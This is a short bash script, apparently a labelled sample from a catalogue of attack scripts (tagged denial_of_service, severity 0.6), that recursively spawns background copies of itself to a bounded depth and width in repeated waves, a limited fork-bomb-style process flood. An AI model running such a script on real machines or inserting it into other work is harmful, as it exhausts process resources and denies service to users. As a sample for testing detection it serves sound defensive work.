#!/usr/bin/env bash
# Processes that start copies of themselves, to a bounded depth and width, in waves.
# attack_type: denial_of_service
# severity: 0.6
# arguments: WAVES DEPTH WIDTH PAUSE
# variants: 6 4 3 0.5 | 14 3 3 0.3 | 3 5 3 1.5
tree() {
  (($1 == 0)) && { sleep 0.05; return; }
  for _ in $(seq "$2"); do tree $(($1 - 1)) "$2" & done
  wait
}
for _ in $(seq "$1"); do tree "$2" "$3"; sleep "$4"; done
